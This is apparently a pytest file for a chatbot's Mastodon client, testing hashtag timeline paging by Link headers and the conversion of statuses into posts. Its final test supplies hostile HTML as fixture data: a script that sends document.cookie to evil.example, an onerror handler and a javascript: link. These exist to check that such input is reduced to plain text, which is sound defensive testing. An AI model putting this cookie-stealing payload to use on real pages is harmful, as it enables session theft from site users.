"""Reading a hashtag: the tag timeline paged forward by its Link headers, statuses made
into NetPosts (plain text, handles, replies), hostile HTML made harmless."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from chatbot.domain.network import Network
from chatbot.emulator.mastodon import MastodonEmulator
from chatbot.mastodon.client import MastodonClient, id_at


async def test_the_timeline_pages_forward_from_since_id_oldest_first(
    emulator: MastodonEmulator, client: MastodonClient
) -> None:
    before = emulator.add_status("ana", "A0 before the chat #SMBchat")
    made = [emulator.add_status(f"p{i % 7}", f"A{i} #SMBchat") for i in range(95)]
    emulator.add_status("bo", "another chat #OtherChat")
    posts = await client.timeline("#SMBchat", since_id=before)
    assert [p.ref.id for p in posts] == made
    pages = [e.path for e in emulator.request_log.entries if e.endpoint.endswith("tag/:hashtag")]
    cursors = [path.split("min_id=")[1].split("&")[0] for path in pages]
    assert cursors == [before, made[39], made[79]]  # 40, 40, then 15: the last page


async def test_the_timeline_from_a_moment(
    emulator: MastodonEmulator, client: MastodonClient
) -> None:
    start = datetime(2026, 11, 25, 1, 0, tzinfo=UTC)
    emulator.add_status("ana", "Warming up #SMBchat", created_at=start - timedelta(minutes=5))
    on_time = emulator.add_status("bo", "Hello! #SMBchat", created_at=start + timedelta(seconds=1))
    posts = await client.timeline("SMBchat", since_id=id_at(start))
    assert [p.ref.id for p in posts] == [on_time]


async def test_a_status_becomes_a_netpost(
    emulator: MastodonEmulator, client: MastodonClient
) -> None:
    emulator.add_account("ana@fosstodon.example", display_name="Ana · Bakery", followers_count=12)
    question = emulator.add_status("smbchat", "Q1: Tools? #SMBchat")
    answer = emulator.add_status(
        "ana@fosstodon.example",
        "A1: @smbchat polls & stories\n\nsee https://example.com/a/b #SMBchat #tools",
        reply_to=question,
    )
    (_, post) = await client.timeline("SMBchat", since_id=None)
    assert post.ref.id == answer and post.network is Network.MASTODON
    assert post.ref.url == f"https://fosstodon.example/@ana/{answer}"
    assert post.reply_to == question
    assert (
        post.text == "A1: @smbchat polls & stories\n\nsee https://example.com/a/b #SMBchat #tools"
    )
    assert post.hashtags == ("SMBchat", "tools")
    author = post.author
    assert (author.handle, author.name, author.followers) == (
        "ana@fosstodon.example",
        "Ana · Bakery",
        12,
    )
    assert author.id == "https://fosstodon.example/users/ana"
    assert post.created_at.tzinfo is not None


async def test_hostile_html_from_a_remote_server_is_plain_text(
    emulator: MastodonEmulator, client: MastodonClient
) -> None:
    emulator.add_status(
        "mallory@evil.example",
        "",
        html=(
            '<p>A1: <script>fetch("https://evil.example/?c="+document.cookie)</script>'
            "&lt;b&gt;bold&lt;/b&gt; &amp;amp; <img src=x onerror=alert(1)>"
            '<a href="javascript:alert(1)">#<span>SMBchat</span></a>\x00\x1b[31m</p>'
        ),
    )
    (post,) = await client.timeline("SMBchat", since_id=None)
    assert post.text == "A1: <b>bold</b> &amp; #SMBchat[31m"
    assert post.hashtags == ("SMBchat",)
